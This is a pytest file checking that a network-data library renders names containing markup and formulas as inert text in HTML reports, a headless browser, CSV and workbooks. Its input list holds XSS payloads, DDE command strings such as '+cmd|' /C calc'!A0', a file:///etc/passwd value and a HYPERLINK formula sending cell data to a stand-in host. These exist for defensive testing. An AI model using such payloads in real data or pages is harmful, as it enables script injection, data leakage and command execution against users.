"""Markup and formulas in names: harmless in the report, the check, CSV and workbooks, in a browser and read again."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

import isthmus as im

# What each would do: run a script (which writes "pwned" into the title), load something, or calculate.
NAMES = [
    "<script>document.title='pwned'</script>",
    "</script><script>document.title='pwned'</script>",
    "</style><script>document.title='pwned'</script>",
    "</title><script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "\"><img src=x onerror=document.title='pwned'>",
    "'><svg onload=document.title='pwned'>",
    "<svg><script>document.title='pwned'</script></svg>",
    "</text></svg><script>document.title='pwned'</script>",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<a href=\"javascript:document.title='pwned'\">Kent</a>",
    "<body onload=document.title='pwned'>",
    "<details open ontoggle=document.title='pwned'>",
    "<input autofocus onfocus=document.title='pwned'>",
    "<base href='https://example.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<link rel=stylesheet href=https://example.invalid/x.css>",
    "<!-- comment --><b>bold</b><!--",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "&lt;script&gt; &amp; &#60;script&#62;",
    "\u2028\u2029<script>document.title='pwned'</script>",
    '=HYPERLINK("https://example.invalid/?x="&A1,"Kent")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "＝1+1",
    '"=1+1", "quoted"',
    "%0A=1+1",
    "https://example.invalid/?q=<b>",
    "file:///etc/passwd",
]


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> im.PartnershipNetwork:
    file = tmp_path_factory.mktemp("markup") / "<b>t.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["project", "partner", "country", "role", "programme", "sector", "budget"])
        for i, name in enumerate(NAMES):
            # Each name as an organisation, a project, a programme, and as a value that is odd.
            writer.writerow([name, name, "GB", "lead", name, "research", i])
            writer.writerow([name, f"Partner {i % 5}", name, name, name, name, name])
    return im.read(file, key_form="as_written")


def names(net: im.PartnershipNetwork) -> set[str]:
    return {name for name in net.actor_names if not name.startswith("Partner ")}


def test_there_are_at_least_thirty(net: im.PartnershipNetwork) -> None:
    assert len(NAMES) >= 30
    # The apostrophe before a formula is what a guarded export put there: it is taken off, and '=1+1 is =1+1.
    assert names(net) == {name for name in NAMES if name != "'=1+1"}


class Elements(HTMLParser):
    """Tags and attributes of a page, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def pages(net: im.PartnershipNetwork, folder: Path) -> list[Path]:
    return [
        im.report(net, folder / "report.html", samples=0),
        im.check(net).save(folder / "check.html"),
    ]


def test_pages_have_no_element_of_a_name(net: im.PartnershipNetwork, tmp_path: Path) -> None:
    for page in pages(net, tmp_path):
        elements = Elements()
        elements.feed(page.read_text("utf-8"))
        assert not elements.tags & {"script", "img", "iframe", "base", "link", "input", "b", "body onload", "object"}
        assert not {name for name in elements.attributes if name.startswith("on") or name in ("srcdoc", "formaction")}
        text = "".join(elements.text)
        assert "<script>document.title='pwned'</script>" in text
        assert "{{ 7 * 7 }}" in text


def chromium() -> str:
    found = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if found is None:
        pytest.skip("no Chromium on this machine: what a browser does with the pages was not looked at")
    return found


FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--virtual-time-budget=3000",
]


@pytest.mark.parametrize("policy", ["with its content policy", "without it"])
def test_pages_in_a_browser(net: im.PartnershipNetwork, tmp_path: Path, policy: str) -> None:
    """Nothing runs and nothing is added, also where no content policy would stop it: names are text."""
    browser = chromium()
    for page in pages(net, tmp_path):
        text = page.read_text("utf-8")
        title = re.search(r"<title>(.*?)</title>", text, re.DOTALL)
        assert title is not None
        if policy == "without it":
            text, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
            assert removed == 1
            # Whether scripts run at all is seen by one of our own.
            text = text.replace("</body>", "<script>document.body.dataset.ran = 'yes'</script></body>")
            page.write_text(text, "utf-8")
        dom = subprocess.run(
            [browser, *FLAGS, f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri()],
            capture_output=True,
            text=True,
            timeout=120,
            check=True,
        ).stdout
        assert ('data-ran="yes"' in dom) == (policy == "without it")
        after = re.search(r"<title>(.*?)</title>", dom, re.DOTALL)
        assert after is not None
        assert after[1].replace("\xa0", "&nbsp;") == title[1].replace("&#39;", "'").replace("&#34;", '"')
        elements = Elements()
        elements.feed(dom)
        assert not elements.tags & {"img", "iframe", "base", "link", "input", "b"}


def test_csv_calculates_nothing_and_comes_back(net: im.PartnershipNetwork, tmp_path: Path) -> None:
    file = im.write(net, tmp_path / "out.csv")
    with file.open(newline="", encoding="utf-8") as stream:
        for row in csv.DictReader(stream):
            for name, cell in row.items():
                if name not in ("budget", "project_budget"):
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell
    back = im.read(file)
    assert names(back) == names(net)
    assert set(back.project_names) == set(net.project_names)


def test_csv_as_written_is_asked_for_by_name(net: im.PartnershipNetwork, tmp_path: Path) -> None:
    text = im.write(net, tmp_path / "out.csv", formulas="as_written").read_text("utf-8")
    assert "\n=1+1," in text or ",=1+1," in text


def test_a_workbook_has_no_formula_and_no_link_and_comes_back(net: im.PartnershipNetwork, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    file = im.write(net, tmp_path / "out.xlsx")
    for row in openpyxl.load_workbook(file).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert cell.hyperlink is None, cell.value
    back = im.read(file)
    # In a workbook texts are texts: nothing was put in front, and what looks like it is taken for it.
    assert names(back) == names(net)


def test_corrections_calculate_nothing(net: im.PartnershipNetwork, tmp_path: Path) -> None:
    im.check(net).propose(tmp_path / "c.csv")
    with (tmp_path / "c.csv").open(newline="", encoding="utf-8-sig") as stream:
        rows = list(csv.DictReader(stream))
    assert rows
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("extension", [".graphml", ".gexf", ".json", ".hif.json"])
def test_network_files_keep_names_as_they_are(net: im.PartnershipNetwork, tmp_path: Path, extension: str) -> None:
    assert names(im.read(im.write(net, tmp_path / f"out{extension}"))) == names(net)
